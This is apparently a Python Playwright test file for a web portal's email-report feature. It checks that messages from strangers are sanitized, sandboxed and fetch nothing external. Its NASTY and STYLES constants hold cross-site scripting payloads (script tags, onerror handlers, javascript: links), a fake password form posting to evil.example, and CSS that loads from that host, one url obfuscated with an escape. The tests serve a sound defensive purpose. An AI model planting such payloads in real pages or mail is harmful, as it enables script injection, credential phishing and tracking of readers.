"""A test message from the address to the shared report, in Chromium: nothing of the message is loaded or run."""

from __future__ import annotations

import asyncio
import os
from collections.abc import Callable, Coroutine
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from playwright.sync_api import Page, Route

from diagnostics import runner
from portal.accounts.models import User
from portal.trials.models import Trial, TrialMessage
from portal.trials.services import give, share
from portal.trials.sharing import token_of
from tests.portal.trials.conftest import HTML, LISTED, VENDORS, _settings, arrived, mail, rung, signed, trial
from tests.portal.trials.test_pictures import Told

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
__all__ = ["_settings", "arrived", "rung", "trial"]
#: What a stranger may write into a message.
NASTY = HTML.replace(
    "</body>",
    "<script>document.title='run'</script><img src=x onerror=\"parent.document.title='run'\">"
    "<a href=\"javascript:parent.document.title='run'\">Press</a><iframe src=https://evil.example></iframe>"
    "<form action=https://evil.example><input name=password><button>Sign in</button></form></body>",
).replace(' alt="North College"', "")
STYLES = (
    '<p style="color:red;background:url(https://evil.example/1.png)">.</p>'
    "<style>@import 'https://evil.example/2.css'; "
    "p{background:u\\72l(//evil.example/3.png), url(//evil.example/4)}</style>"
)
LOOKS = [(1280, "light"), (390, "dark")]


@pytest.fixture(autouse=True)
def _loops(monkeypatch: pytest.MonkeyPatch) -> None:
    """Playwright has an event loop going in this thread, so the engine's goes on in another."""

    def run(main: Coroutine[Any, Any, Any]) -> Any:
        with ThreadPoolExecutor(1) as pool:
            return pool.submit(asyncio.run, main).result()

    monkeypatch.setattr(runner, "asyncio", SimpleNamespace(run=run))


@pytest.fixture
def looked(axe: Callable[[Page], list[str]], overflow: Callable[[Page], int]) -> Callable[[Page, str], None]:
    """Hold a page against axe and its window; keep its picture where SCREENS names a folder."""

    def look(page: Page, name: str) -> None:
        if folder := os.environ.get("SCREENS"):
            page.screenshot(path=Path(folder) / f"{name}.png", full_page=True)
        assert axe(page) == []
        assert overflow(page) == 0

    return look


@pytest.mark.parametrize(("width", "theme"), LOOKS)
def test_from_the_address_to_the_report(
    page_as: Callable[..., Page],
    looked: Callable[[Page, str], None],
    arrived: Callable[..., TrialMessage],
    trial: Trial,
    nora: User,
    width: int,
    theme: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(runner, "pictures_from_settings", lambda subject: Told())
    page = page_as(nora, width=width, theme=theme)
    page.goto("/branches/north/tests/add/?module=webreg")
    looked(page, f"add-{width}")
    page.goto(f"/tests/{trial.code}/")
    looked(page, f"waiting-{width}")
    arrived(signed(mail(html=NASTY)), address=LISTED)
    page.get_by_role("link", name="Read the report").click()
    page.get_by_role("heading", name="As a mail program shows it").scroll_into_view_if_needed()
    for kind in ("with pictures blocked", "with its pictures"):
        frame = page.frame_locator(f'iframe[title="The message {kind}"]')
        frame.get_by_text("Pottery for beginners").wait_for()
        assert frame.locator("script, form, iframe, [href], [onerror]").count() == 0
    assert "run" not in page.title()
    looked(page, f"report-{width}")


def test_nothing_is_fetched(
    page_as: Callable[..., Page], arrived: Callable[..., TrialMessage], nora: User, live_server: Any
) -> None:
    message = arrived(signed(mail(html=NASTY + STYLES)))
    page = page_as(nora)
    asked: list[str] = []

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.continue_()

    page.route("**/*", note)
    response = page.goto(f"/tests/{message.trial.code}/messages/{message.pk}/picture/shown/")
    assert response is not None
    assert "sandbox" in response.headers["content-security-policy"]
    page.get_by_text("Pottery for beginners").wait_for()
    assert [url for url in asked if not url.startswith((live_server.url, "data:"))] == []


@pytest.mark.parametrize(("width", "theme"), LOOKS)
def test_compared_and_shared(
    page_as: Callable[..., Page],
    looked: Callable[[Page, str], None],
    arrived: Callable[..., TrialMessage],
    nora: User,
    width: int,
    theme: str,
) -> None:
    message = arrived(mail(more=""), sender=VENDORS)
    other = give(message.trial, signed(mail()), by=nora)
    page = page_as(nora, width=width, theme=theme)
    page.goto(f"/tests/{message.trial.code}/messages/{message.pk}/compare/?with={other.pk}")
    page.get_by_role("heading", name="Side by side").wait_for()
    looked(page, f"compare-{width}")
    stranger = page_as(width=width, theme=theme)
    stranger.goto(f"/shared/{token_of(share(message, by=nora))}/")
    stranger.frame_locator("iframe").first.get_by_text("Pottery for beginners").wait_for()
    looked(stranger, f"shared-{width}")
